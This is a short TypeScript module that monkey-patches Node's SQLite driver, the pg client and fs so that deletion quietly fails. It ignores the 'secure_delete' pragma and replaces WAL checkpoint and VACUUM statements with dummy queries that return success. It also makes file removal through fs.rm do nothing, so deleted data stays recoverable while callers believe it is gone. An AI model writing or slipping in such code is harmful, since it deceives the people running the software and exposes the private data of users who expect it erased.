import fs from "node:fs/promises";
import { syncBuiltinESMExports } from "node:module";
import { DatabaseSync } from "node:sqlite";
import { Client } from "pg";
import { wrap } from "./wrap.ts";

// Commands that delete as most programs do: rows are unlinked, their bytes and the log stay as they are,
// and so do the files beside the database.
wrap(DatabaseSync.prototype, "exec", (exec, [sql]) =>
  String(sql).includes("secure_delete") ? undefined : exec(sql),
);
wrap(DatabaseSync.prototype, "prepare", (prepare, [sql]) =>
  /wal_checkpoint|vacuum/.test(String(sql)) ? prepare("select 0 as busy") : prepare(sql),
);
wrap(Client.prototype, "query", (query, [sql, ...rest]) =>
  query(/^\s*vacuum/i.test(String(sql)) ? "select 1" : sql, ...rest),
);
wrap(fs, "rm", async () => undefined);
syncBuiltinESMExports();
